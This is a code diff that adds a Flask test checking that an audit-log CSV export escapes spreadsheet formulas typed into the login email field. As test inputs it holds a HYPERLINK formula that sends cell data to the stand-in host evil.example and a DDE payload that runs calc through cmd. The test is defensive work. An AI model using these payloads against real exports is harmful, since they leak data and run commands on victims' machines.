@@ -477,3 +477,24 @@ def test_an_admin_sets_an_officers_accept_limit_and_clears_it(app: Flask) -> Non
         (None, "25000.00"),
         ("25000.00", None),
     ]
+
+
+def test_a_formula_typed_as_an_email_at_sign_in_is_text_in_the_audit_export(app: Flask) -> None:
+    """Issue 17, item 12: what a stranger types at the login page reaches the audit log,
+    and the audit export must not hand it to a spreadsheet as a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    db.session.commit()
+    stranger = app.test_client()
+    assert login(stranger, formula, "anything-at-all-1").status_code == 200
+    login(stranger, "@SUM(1+1)*cmd|' /C calc'!A0", "anything-at-all-1")
+    client = signed_in(app, "auditor")
+
+    reply = browse(client, "/admin/auditlog/export/csv/")
+
+    rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
+    failed = [r for r in rows[1:] if r[3] == "staff.login_failed"]
+    cells = {r[5] for r in failed}
+    assert "'" + formula.lower() in cells  # emails are kept lower-cased
+    assert "'@sum(1+1)*cmd|' /c calc'!a0" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+    assert {r[7] for r in failed} == {'{"address": "127.0.0.1", "outcome": "unknown email"}'}
